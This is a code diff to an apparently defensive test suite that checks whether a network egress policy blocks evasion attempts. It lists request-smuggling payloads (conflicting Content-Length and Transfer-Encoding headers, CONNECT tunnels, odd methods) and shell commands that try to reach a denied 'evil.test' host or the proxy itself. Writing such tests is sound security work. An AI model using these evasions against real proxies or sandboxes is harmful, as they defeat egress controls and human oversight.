@@ -1,6 +1,7 @@
 """Ways around a policy. Each is tried first without one, where it has to succeed: an attempt that reaches nobody proves nothing."""
 
 import dataclasses
+import re
 import secrets
 import time
 
@@ -34,7 +35,6 @@ class Evasion:
 
 def try_all(tables, evasion):
     """Without the policy it has to succeed, with it to fail."""
-    import re
 
     def attempt(policy):
         token = f"t{secrets.token_hex(8)}"
@@ -54,6 +54,7 @@ def try_all(tables, evasion):
         raise Failed(f"a server saw {reached}; the program said {shortened(said, 300)}")
     if evasion.unsaid and re.search(evasion.unsaid, said):
         raise Failed(f"the program said {shortened(said, 600)}")
+    tables.check_secrecy(said)
     return shortened(said, 80)
 
 
@@ -123,14 +124,13 @@ def requests():
     yield Evasion("chunks that only one side reads", ALLOWED, raw(f"{head}Content-Length: 5\\r\\nTransfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\n{smuggled}"), foul)
     yield Evasion("two lengths", ALLOWED, raw(f"{head}Content-Length: 200\\r\\nContent-Length: 0\\r\\n\\r\\n{smuggled}"), foul)
     yield Evasion("a length with a sign", ALLOWED, raw(f"{head}Content-Length: +0\\r\\n\\r\\n{smuggled}"), foul)
-    yield Evasion("CONNECT", ALLOWED, raw(f"CONNECT {FOUL}:80 HTTP/1.1\\r\\nHost: {FINE}\\r\\n\\r\\n|{smuggled}", "parts"), f"^cdn: (CONNECT|.*TOKEN.*{FOUL})")
+    yield Evasion("CONNECT", ALLOWED, raw(f"CONNECT {FOUL}:80 HTTP/1.1\\r\\nHost: {FINE}\\r\\n\\r\\n|{smuggled}", "parts"), f"^cdn: (CONNECT |.*TOKEN.*{FOUL})")
     yield Evasion("an upgrade that the server does not take", ALLOWED, raw(get(FINE, "Connection: Upgrade\\r\\nUpgrade: websocket\\r\\n", "/first") + "|" + smuggled, "parts"), foul)
     yield Evasion("empty lines before a request", ALLOWED, raw("\\r\\n\\r\\n" + get(FOUL)), foul, control=False)
     yield Evasion("an empty line before a request", ALLOWED, raw("\\n" + get(FOUL)), foul)
     yield Evasion("a method that nobody knows", ALLOWED, raw(f"SEIZE /$TOKEN HTTP/1.1\\r\\nHost: {FOUL}\\r\\n\\r\\n"), foul)
     yield Evasion("a method in small letters", ALLOWED, raw(f"get /$TOKEN HTTP/1.1\\r\\nHost: {FOUL}\\r\\n\\r\\n"), foul)
     yield Evasion("a version that nobody knows", ALLOWED, raw(get(FOUL, version="3.7")), foul)
-    yield Evasion("words of another protocol first", ALLOWED, raw("SSH-2.0-x\\r\\n" + get(FOUL)), f"^cdn: .*TOKEN.*{FOUL}", control=False)
     yield Evasion("a late first byte", ALLOWED, raw(get(FOUL), "late"), foul)
     yield Evasion("a late first byte, where a name is denied", DENIED, raw(get(FOUL), "late"), foul)
     yield Evasion("a request one byte at a time", ALLOWED, raw(get(FOUL), "bytes"), foul)
@@ -153,7 +153,7 @@ def addresses():
     yield Evasion("the machine's own address", open_to_all(), f"{INSIDE} connect 192.0.2.7 53", "^names: tcp", control=False)
     yield Evasion("the proxy itself", open_to_all(), f"for at in '127.213.0.1 15001' '::1 15001' '192.0.0.2 15001'; do {INSIDE} connect $at; done", "^never", control=False, unsaid="HTTP/1.1 200")
     pretend = "python3 -m http.server -b 0.0.0.0 80 >/dev/null 2>&1 & until curl -sf -o /dev/null http://127.0.0.1/; do sleep 0.1; done; "
-    yield Evasion("one's own server on every address", open_to_all(deny("evil.test")), f"{pretend}{CURL} http://{EVIL}/ && echo pretended", "^evil: ", unsaid="pretended")
+    yield Evasion("one's own server on every address", open_to_all(deny("evil.test")), f"{pretend}{CURL} -f http://{EVIL}/ && echo pretended", "^evil: ", unsaid="pretended")
 
 
 def resolution():
